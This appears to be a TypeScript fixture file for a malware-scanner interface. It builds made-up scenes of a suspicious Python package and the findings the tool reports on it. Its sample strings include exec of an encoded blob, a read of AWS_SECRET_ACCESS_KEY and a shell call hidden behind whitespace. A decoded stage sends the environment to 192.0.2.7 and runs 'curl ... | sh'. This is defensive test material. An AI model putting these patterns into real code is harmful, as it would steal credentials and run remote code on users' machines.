import type { DocumentView } from "../../../../main/api/contract.ts";
import type { Finding } from "../../../../main/model/analysis/finding.ts";
import type { Layer } from "../../../../main/model/analysis/layer.ts";
import type { Severity } from "../../../../main/model/analysis/scales.ts";
import type { FindingReview } from "../../../../main/model/case/case.ts";
import { makeDocument, spanOf } from "../../../../main/model/text/document.ts";
import type { Span } from "../../../../main/model/text/span.ts";

/** What one scene of the page shows. Everything in it is made up. */
export interface Scene {
	readonly view: DocumentView;
	readonly findings: Finding[];
	readonly layers: Layer[];
	readonly documents: Map<string, DocumentView>;
	readonly reviews: Map<string, FindingReview>;
	readonly expanded: string[];
	readonly selected?: string;
}

export function viewOf(
	documentId: string,
	text: string,
	language = "python",
	title = "demo-1.0/demo/__init__.py",
): DocumentView {
	return { documentId, title, language, view: "text", text, encoding: "utf-8", size: text.length, warnings: [] };
}

export function spanIn(text: string, needle: string, from = 0): Span {
	const start = text.indexOf(needle, from);
	if (start < 0) throw new Error(`The scene has no such text: ${needle}`);
	return spanOf(makeDocument(text), { start, end: start + needle.length });
}

export function findingAt(span: Span, more: Partial<Finding> & { id: string; severity: Severity }): Finding {
	return {
		rule: "execution-of-decoded",
		family: "exec",
		confidence: "high",
		reach: "import",
		memberId: "m0",
		path: "demo/__init__.py",
		reachPath: [],
		layerIds: [],
		layers: [],
		span,
		excerpt: "",
		message: "Runs code that was decoded first",
		evidence: [],
		fingerprint: more.id,
		attack: [],
		traits: [],
		...more,
	};
}

const BLOB = "eJxLzs8rKc0pAQAHPAJ5".repeat(14);
const INNER_BLOB = "aW1wb3J0IG9z".repeat(8);

const SOURCE = `"""A small demonstration package."""
import base64, os, zlib
import urllib.request

VERSION = "1.0"

class Loader:
    def __init__(self, url):
        self.url = url

    def fetch(self):
        # reads whatever the host gives
        with urllib.request.urlopen(self.url) as answer:
            return answer.read()

def start():
    exec(zlib.decompress(base64.b64decode("${BLOB}")))

start()
token = os.environ.get("AWS_SECRET_ACCESS_KEY")${" ".repeat(400)}; os.system("echo far right of the screen")
name = "left\u200b\u200bright" + "\u202eevil\u202c" + "p\u0430ypal"
print(VERSION, token, name)
`;

const LAYER = `import os, subprocess
import urllib.request
# stage two, decoded
def send(data):
    request = urllib.request.Request("http://192.0.2.7/collect", data=data)
    urllib.request.urlopen(request)

send(repr(dict(os.environ)).encode())
exec(__import__("base64").b64decode("${INNER_BLOB}"))
for attempt in range(3):
    subprocess.Popen(["sh", "-c", "curl http://192.0.2.7/x | sh"])
`;

const INNER = `import os
os.system("id")
`;

function layerOf(more: Partial<Layer> & { id: string; span: Span }): Layer {
	return {
		memberId: "m0",
		path: "demo/__init__.py",
		memberSpan: more.span,
		chain: [
			{ transform: "base64", inputLength: 280, outputLength: 210 },
			{ transform: "zlib", inputLength: 210, outputLength: 1_200 },
		],
		kind: "python",
		size: 1_200,
		sha256: "0".repeat(64),
		use: "executed",
		depth: 1,
		...more,
	};
}

export function mainScene(): Scene {
	const literal = spanIn(SOURCE, `"${BLOB}"`);
	const innerLiteral = spanIn(LAYER, `"${INNER_BLOB}"`);
	const layers = [
		layerOf({ id: "l0", span: literal }),
		layerOf({
			id: "l1",
			span: innerLiteral,
			memberSpan: literal,
			parentId: "l0",
			depth: 2,
			size: 26,
			chain: [{ transform: "base64", inputLength: 96, outputLength: 26 }],
		}),
	];
	const inLayer = { layerIds: ["l0"], layers: ["base64 → zlib → Python, 1.2 kB"] };
	const findings = [
		findingAt(spanIn(SOURCE, "urllib.request.urlopen(self.url)"), {
			id: "f1",
			severity: "medium",
			rule: "network-called",
			message: "Opens self.url",
			reach: "called",
		}),
		findingAt(spanIn(SOURCE, `exec(zlib.decompress(base64.b64decode("${BLOB}")))`), {
			id: "f2",
			severity: "critical",
			message:
				"Runs what base64.b64decode and zlib.decompress give: **not bold** [no link](http://192.0.2.1/x) `tick` <img src=x>",
			evidence: [
				{
					label: "decodes",
					path: "demo/__init__.py",
					memberId: "m0",
					span: literal,
					startLine: 18,
					value: "eJxLzs8rKc0pAQAHPAJ5 ```` fence",
				},
				{
					label: "runs",
					path: "demo/__init__.py",
					memberId: "m0",
					span: literal,
					startLine: 18,
					value: "import os, subprocess",
				},
			],
		}),
		findingAt(spanIn(SOURCE, 'os.environ.get("AWS_SECRET_ACCESS_KEY")'), {
			id: "f3",
			severity: "high",
			message: "Reads AWS_SECRET_ACCESS_KEY",
		}),
		findingAt(spanIn(SOURCE, 'os.system("echo far right of the screen")'), {
			id: "f4",
			severity: "low",
			message: "Starts a shell",
		}),
		findingAt(spanIn(SOURCE, "import urllib.request"), {
			id: "f5",
			severity: "info",
			message: "Can speak over the network",
		}),
		findingAt(literal, {
			id: "f6",
			severity: "high",
			layerSpan: spanIn(LAYER, "urllib.request.urlopen(request)"),
			...inLayer,
			message: "Sends the environment to 192[.]0[.]2[.]7",
		}),
		findingAt(literal, {
			id: "f7",
			severity: "critical",
			layerSpan: spanIn(LAYER, 'subprocess.Popen(["sh", "-c", "curl http://192.0.2.7/x | sh"])'),
			...inLayer,
			message: "Downloads and runs a shell script",
		}),
	];
	const review = (state: FindingReview["state"], reason: string): FindingReview => ({
		state,
		reason,
		note: "",
		tags: [],
		author: "ada",
		at: "2026-11-23T10:00:00Z",
	});
	return {
		view: viewOf("m0", SOURCE),
		findings,
		layers,
		documents: new Map([
			["l0", viewOf("l0", LAYER, "python", "base64 → zlib → Python")],
			["l1", viewOf("l1", INNER, "python", "base64 → Python")],
		]),
		reviews: new Map([
			["f1", review("dismissed", "an ordinary client")],
			["f3", review("confirmed", "nothing needs it")],
		]),
		expanded: ["l0"],
		selected: "f2",
	};
}

/** One line of ten million characters: an encoded blob, with a call at its far end. */
export function giantScene(): Scene {
	const blob = "QUJDREVGR0hJSktMTU5PUA==".repeat(416_667).slice(0, 10_000_000);
	const text = `import base64\ndata = "${blob}"; exec(base64.b64decode(data))\nprint("after")\n`;
	const literal = spanIn(text, `"${blob}"`);
	return {
		view: { ...viewOf("m0", text), warnings: ["Line 2 has 10,000,040 characters"] },
		findings: [
			findingAt(spanIn(text, "exec(base64.b64decode(data))"), { id: "f1", severity: "critical" }),
			findingAt(literal, { id: "f2", severity: "medium", rule: "long-literal", message: "A literal of 10 MB" }),
		],
		layers: [
			layerOf({
				id: "l0",
				span: literal,
				use: "decoded",
				kind: "text",
				size: 7_500_000,
				chain: [{ transform: "base64", inputLength: 10_000_000, outputLength: 7_500_000 }],
			}),
		],
		documents: new Map([["l0", viewOf("l0", "ABCDEFGHIJKLMNOP".repeat(468_750), "plaintext", "base64 → text")]]),
		reviews: new Map(),
		expanded: [],
		selected: "f1",
	};
}

/** 50,000 lines with 2,000 findings. */
export function longScene(): Scene {
	const lines = Array.from(
		{ length: 50_000 },
		(_, index) => `value_${index} = compute(${index}, "text ${index}")  # line ${index + 1}`,
	);
	const text = lines.join("\n");
	const made = makeDocument(text);
	const severities = ["info", "low", "medium", "high", "critical"] as const;
	const findings = Array.from({ length: 2_000 }, (_, index) => {
		const line = index * 25 + 3;
		const start = (made.lineStarts[line - 1] ?? 0) + 10;
		return findingAt(spanOf(made, { start, end: start + 20 }), {
			id: `f${index}`,
			severity: severities[index % 5] ?? "low",
		});
	});
	return {
		view: viewOf("m0", text),
		findings,
		layers: [],
		documents: new Map(),
		reviews: new Map(),
		expanded: [],
		selected: "f1000",
	};
}

/** Everything that shifts offsets or hides text. */
export function oddScene(): Scene {
	const text = [
		"\uFEFFfirst = 'byte order mark before me'\r\n",
		"second = 'CRLF'\r\n",
		"third = 'LF'\n",
		"fourth = 'line\u2028separator and \u2029 paragraph'\r\n",
		"fifth = 'form\ffeed \v tab'\n",
		"sixth = 'NUL \0\0 and escape \x1b[31m and DEL \x7f and C1 \x9b'\r\n",
		"seventh = 'bidi \u202eabc\u202c \u2066def\u2069 hebrew \u05d0\u05d1\u05d2'\n",
		"eighth = 'zero\u200bwidth, soft\u00adhyphen, tag \u{e0041}\u{e0042}, filler \u3164'\n",
		"p\u0430ssword = 'cyrillic a'\n",
		`${" ".repeat(200)}exec("indented far")\n`,
		`x = 1${"\t".repeat(80)}; exec("behind tabs")\n`,
		"\n".repeat(120),
		"target = 'found'\r\n",
		`long = "${"a".repeat(3_000)}"; exec("end of long")\n`,
	].join("");
	const needles = [
		"first",
		"second",
		"third",
		"fourth",
		"fifth",
		"sixth",
		"seventh",
		"eighth",
		"p\u0430ssword",
		'exec("indented far")',
		'exec("behind tabs")',
		"target",
		'exec("end of long")',
	];
	return {
		view: viewOf("m0", text),
		findings: needles.map((needle, index) =>
			findingAt(spanIn(text, needle), { id: `f${index}`, severity: "high", message: `marks ${index}` }),
		),
		layers: [],
		documents: new Map(),
		reviews: new Map(),
		expanded: [],
	};
}

export const scenes: ReadonlyMap<string, () => Scene> = new Map([
	["main", mainScene],
	["giant", giantScene],
	["long", longScene],
	["odd", oddScene],
]);
